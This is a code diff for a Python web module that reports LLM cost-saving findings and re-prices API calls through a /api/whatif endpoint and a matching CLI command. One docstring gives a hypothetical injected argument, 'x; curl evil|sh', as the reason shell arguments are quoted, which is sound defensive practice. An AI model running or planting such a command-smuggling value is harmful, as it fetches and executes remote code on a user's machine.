@@ -1,11 +1,17 @@
 """Insights: what to change and what it would save, each with the what-if behind its
 number; and ``/api/whatif``, the same re-pricing engine for any run, service or the fleet.
 
-A finding's ``savings_usd`` is its calls re-priced under the fix (analysis/insights.py);
-the what-if shown with it is ``store.whatif`` of the matching scenario over the
-finding's scope (its run, or its service), so a reader can check the number and
-re-price variations of it. Service-scoped what-ifs re-price all of the service's calls
-in the range (every model), which is why their totals can exceed the finding's.
+A finding's ``savings_usd`` is its calls re-priced under the fix (analysis/insights.py).
+The what-if shown with it is that very number: the finding's calls, their cost as sent
+and under the scenario, and the savings, with the ``/api/whatif`` link and the
+``tokentrail whatif`` command that re-price exactly those calls (the finding's run or
+service, its model, and only the calls its rule counts: ``only_model`` and
+``only_candidates``, analysis/whatif.py). The page runs no what-if query of its own.
+
+The page's numbers are the insights': a run's calls count by UTC day, when the run's
+first call of that day lies in the range; the what-if counts every call in
+``[start, end)``. Over ranges of whole UTC days that no run crosses, both are the same
+calls (tests/web/test_insights_page.py checks the link answers the finding's numbers).
 
 Findings overlap: one run can be uncached_prefix, growing_uncached_input, context_growth
 and context_dead_weight at once, and one service's calls both batch and routing
@@ -42,11 +48,6 @@ router = APIRouter()
 
 DEFAULT_RANGE = "30d"
 DEFAULT_LIMIT = 20
-# Each what-if re-prices its scope over the whole range (about a tenth of the time the
-# findings take): the first this many distinct ones are computed with the findings, the
-# later findings link to theirs (whatif_url) instead of doubling the page's time.
-WHATIF_LIMIT = 10
-
 KINDS = ins.KINDS  # every kind the store may report
 
 # kind -> the what-if scenario that re-prices it (README, "Insights": each rule's
@@ -58,6 +59,7 @@ SCENARIO_OF_KIND = {
     ins.BATCH_CANDIDATE: "batch",
     ins.MODEL_ROUTING_CANDIDATE: "model",
     ins.TTL_TOO_SHORT: "ttl_1h",
+    ins.UNREAD_CACHE_WRITES: "unread_writes",
     ins.CONTEXT_DEAD_WEIGHT: "dead_weight",
 }
 # Only scenarios this version of the analysis has.
@@ -67,8 +69,6 @@ SCENARIO_OF_KIND = {k: v for k, v in SCENARIO_OF_KIND.items() if v in wi.SCENARI
 BASIS_OF_KIND = {
     ins.RECURRING_INVALIDATION: "measured: the extra_cost_usd of these cache events "
                                 "(their missed tokens re-priced as cache reads)",
-    ins.UNREAD_CACHE_WRITES: "the unread writes re-priced as uncached input (no what-if "
-                             "scenario re-prices this alone)",
 }
 
 Scenario = Literal.__getitem__(tuple(wi.SCENARIOS))  # every scenario of analysis/whatif.py
@@ -90,41 +90,61 @@ def _iso(value: Any) -> str:
     return value.isoformat().replace("+00:00", "Z")
 
 
-def whatif_url(scenario: str, span: TimeRange, *, run: str = "", service: str = "") -> str:
+def _scope(finding: Finding) -> dict[str, str]:
+    """The what-if scope of a finding: its run (run-scoped kinds) or its service, and
+    its model."""
+    run = finding.run_ids[0] if finding.scope == "run" and finding.run_ids else ""
+    service = finding.service_name if not run and finding.scope == "service" else ""
+    return {"run": run, "service": service, "only_model": finding.model}
+
+
+def whatif_url(scenario: str, span: TimeRange, *, run: str = "", service: str = "",
+               only_model: str = "", only_candidates: bool = True) -> str:
     query = {"scenario": scenario, "start": _iso(span.start), "end": _iso(span.end)}
     if run:
         query["run"] = run
     elif service:
         query["service"] = service
+    if only_model:
+        query["only_model"] = only_model
+    if only_candidates:
+        query["only_candidates"] = "true"
     return "/api/whatif?" + urlencode(query)
 
 
-def whatif_command(scenario: str, span: TimeRange, *, run: str = "",
-                   service: str = "") -> str:
+def whatif_command(scenario: str, span: TimeRange, *, run: str = "", service: str = "",
+                   only_model: str = "", only_candidates: bool = True) -> str:
     """The ``tokentrail whatif`` command line behind a finding, each argument quoted for
-    a POSIX shell: run ids and service names are telemetry, and a copy-pasted
+    a POSIX shell: run ids, service and model names are telemetry, and a copy-pasted
     ``--run 'x; curl evil|sh'`` must stay one argument."""
     args = ["tokentrail", "whatif", scenario]
     if run:
         args += ["--run", run]
     elif service:
         args += ["--service", service]
+    if only_model:
+        args += ["--only-model", only_model]
+    if only_candidates:
+        args.append("--only-candidates")
     args += ["--start", span.start.strftime("%Y-%m-%dT%H:%M:%S"),
              "--end", span.end.strftime("%Y-%m-%dT%H:%M:%S")]
     return shlex.join(args)
 
 
-def _whatif(store: Store, scenario: str, span: TimeRange, *, run: str = "",
-            service: str = "", **settings: Any) -> WhatIf:
-    row = store.whatif(scenario, span.start, span.end, run=run, service=service, **settings)
-    return WhatIf.model_validate({**row, "description": wi.SCENARIOS[scenario][1],
-                                  "start": span.start, "end": span.end, "run": run,
-                                  "service": service})
+def _finding_whatif(finding: Finding, scenario: str, span: TimeRange) -> WhatIf:
+    """The what-if behind a finding, from the finding's own numbers: the same engine
+    re-priced the same calls (``/api/whatif`` with :func:`_scope` and only the
+    candidates answers these totals)."""
+    cost = finding.cost_usd or 0.0
+    savings = finding.savings_usd or 0.0
+    return WhatIf(scenario=scenario, description=wi.SCENARIOS[scenario][1],
+                  start=span.start, end=span.end, **_scope(finding), only_candidates=True,
+                  calls=finding.calls, runs=None, cost_usd=cost,
+                  whatif_cost_usd=cost - savings, savings_usd=savings)
 
 
 def _findings(store: Store, span: TimeRange, kinds: list[str], limit: int) -> InsightsPage:
     rows = store.insights(span.start, span.end, kinds=kinds, limit=limit)
-    memo: dict[tuple[str, str, str], WhatIf] = {}
     findings = []
     for row in rows:
         # Naive datetimes from the store are UTC: made aware, the JSON gives their offset
@@ -133,14 +153,10 @@ def _findings(store: Store, span: TimeRange, kinds: list[str], limit: int) -> In
             **row, **{k: as_utc(row[k]) for k in ("first_seen", "last_seen") if row.get(k)}})
         scenario = SCENARIO_OF_KIND.get(finding.kind)
         if scenario:
-            run = finding.run_ids[0] if finding.scope == "run" and finding.run_ids else ""
-            service = finding.service_name if not run and finding.scope == "service" else ""
-            key = (scenario, run, service)
-            if key not in memo and len(memo) < WHATIF_LIMIT:
-                memo[key] = _whatif(store, scenario, span, run=run, service=service)
-            finding.whatif = memo.get(key)
-            finding.whatif_url = whatif_url(scenario, span, run=run, service=service)
-            finding.whatif_command = whatif_command(scenario, span, run=run, service=service)
+            scope = _scope(finding)
+            finding.whatif = _finding_whatif(finding, scenario, span)
+            finding.whatif_url = whatif_url(scenario, span, **scope)
+            finding.whatif_command = whatif_command(scenario, span, **scope)
             finding.basis = (f"these calls re-priced under the what-if scenario "
                              f"{scenario!r}: {wi.SCENARIOS[scenario][1]}")
         else:
@@ -173,7 +189,7 @@ def insights_json(store: StoreDep, start: StartQuery = None, end: EndQuery = Non
                   range_: RangeQuery = None, kind: KindQuery = None,
                   limit: LimitQuery = DEFAULT_LIMIT) -> InsightsPage:
     """The findings of a range (default the last 30 days), the largest savings first,
-    each with the what-if that re-prices its scope."""
+    each with the what-if that re-prices exactly its calls (and the link that does)."""
     span = time_range(start, end, range_, default=DEFAULT_RANGE)
     return _findings(store, span, _kinds(kind), limit)
 
@@ -186,6 +202,11 @@ def whatif_json(
     start: StartQuery = None, end: EndQuery = None, range_: RangeQuery = None,
     run: Annotated[str, Query(description="Only this run")] = "",
     service: Annotated[str, Query(description="Only this service")] = "",
+    only_model: Annotated[str, Query(
+        description="Only the calls on this model (a finding's model)")] = "",
+    only_candidates: Annotated[bool, Query(
+        description="Only the calls the rule of the scenario's kind counts (a finding's "
+                    "calls: e.g. for batch the batchable calls of single-call runs)")] = False,
     model: Annotated[str | None, Query(
         description="For `model`: the model to re-price on (default claude-haiku-4-5)")] = None,
     compact_above: Annotated[int | None, Query(
@@ -196,5 +217,11 @@ def whatif_json(
     """Calls of the range (of one run or service if given) priced as they ran and under
     ``scenario``: the engine behind every insight's savings (default: the last 30 days)."""
     span = time_range(start, end, range_, default=DEFAULT_RANGE)
-    return _whatif(store, scenario, span, run=run, service=service, routing_model=model,
-                   compact_above=compact_above, compact_to=compact_to)
+    row = store.whatif(scenario, span.start, span.end, run=run, service=service,
+                       only_model=only_model, only_candidates=only_candidates,
+                       routing_model=model, compact_above=compact_above,
+                       compact_to=compact_to)
+    return WhatIf.model_validate({
+        **row, "description": wi.SCENARIOS[scenario][1], "start": span.start,
+        "end": span.end, "run": run, "service": service, "only_model": only_model,
+        "only_candidates": only_candidates})
